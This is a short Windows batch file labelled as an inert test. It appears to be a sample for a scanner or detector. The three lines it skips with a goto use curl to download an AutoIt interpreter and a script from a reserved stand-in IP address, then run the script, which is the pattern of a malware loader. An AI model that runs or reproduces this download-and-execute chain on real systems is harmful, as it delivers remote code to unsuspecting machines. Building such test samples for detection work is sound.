@echo off
rem INERT SEKISHO TEST
goto :end
curl -o Autoit3.exe http://192.0.2.1:2351
curl -o inert.au3 http://192.0.2.1:2351/msi
Autoit3.exe inert.au3
:end
